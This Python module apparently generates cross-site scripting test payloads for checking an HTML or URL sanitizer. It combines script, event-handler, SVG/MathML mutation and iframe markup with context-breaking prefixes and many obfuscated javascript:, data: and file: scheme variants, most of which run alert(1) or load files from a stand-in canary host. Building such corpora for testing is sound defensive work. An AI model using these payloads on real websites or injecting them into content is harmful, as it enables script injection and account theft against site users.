"""Words that want to be a script: each would call ``alert``, or ask for something of the canary's host."""

from collections.abc import Iterator
from html import escape
from itertools import product

CANARY = "canary.example"
RUN = "alert(1)"

MARKUP = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script src=https://{CANARY}/a.js></script>",
    f"<script/x>{RUN}</script/>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<img src=x onerror={RUN}>",
    f"<img src=x:x onerror='{RUN}'//>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src='x'onerror={RUN}>",
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{RUN}'><text y=9>x</text></a></svg>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe src=https://{CANARY}/f></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<object data=https://{CANARY}/o></object>",
    f"<embed src=https://{CANARY}/e>",
    f"<body onload={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<form action='javascript:{RUN}'><button autofocus>x</button></form>",
    f"<button formaction='javascript:{RUN}'>x</button>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<a href='https://exemple.fr/' onmouseover={RUN} style='position:fixed;inset:0'>x</a>",
    f"<base href=https://{CANARY}/>",
    f"<meta http-equiv=refresh content='0;url=https://{CANARY}/m'>",
    f"<link rel=stylesheet href=https://{CANARY}/l.css>",
    f"<style>@import url(https://{CANARY}/s.css);</style>",
    f"<p style='background:url(https://{CANARY}/b)'>x</p>",
    f"<template><script>{RUN}</script></template>",
    f"<x contenteditable onblur={RUN} tabindex=1 autofocus>x</x>",
    f"<a id=x tabindex=1 onfocus={RUN}>x</a><a href=#x>y</a>",
    "<script>document.title='taken'</script>",
)
BREAKS = ("{}", '"><x>{}', "'>{}", "</textarea></title></style></script>{}", "]]>-->{}", "{{{{7*7}}}}{}")
"""What may end the place in which a text stands."""

SCHEMES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "\tjavascript:{}", "java\tscript:{}", "java\nscript:{}",
    "java\r\nscript:{}", "\x01javascript:{}", "\x0bjavascript:{}", "\u00a0javascript:{}", "\u2028javascript:{}",
    "javascript&colon;{}", "javascript&#58;{}", "&#106;avascript:{}", "&#x6A;avascript:{}", "java&#10;script:{}",
    "java&Tab;script:{}", "&#0000106avascript:{}", "javascript&amp;#58;{}", "javascript:/**/{}", "javascript://x%0a{}",
    "javascript:%0a{}", "javascript://exemple.fr/%0a{}", "https:javascript:{}", "view-source:javascript:{}",
    "vbscript:{}", "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,<svg onload={}>", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{}'/>",
    "blob:https://exemple.fr/{}", "file:///etc/passwd#{}", "//javascript:{}", "\\\\javascript:{}", "/\\javascript:{}",
    'https://exemple.fr/" onmouseover="{}', "https://exemple.fr/' onmouseover='{}", "https://exemple.fr/><img src=x onerror={}>",
    "https://exemple.fr/\n\n<script>{}</script>", "http://[::1/{}", "https://x:{}@exemple.fr/", "ｊavascript:{}",
)  # fmt: skip


def payloads() -> tuple[str, ...]:
    """All of them, each once: markup out of every place and escaped once more, and addresses alone and in a link."""
    return tuple(dict.fromkeys(_made()))


def _made() -> Iterator[str]:
    for pattern, markup in product(BREAKS, MARKUP):
        yield pattern.format(markup)
    for markup in MARKUP:
        yield escape(markup)
    for scheme in SCHEMES:
        address = scheme.format(RUN)
        yield address
        yield f'<a href="{address}">x</a>'
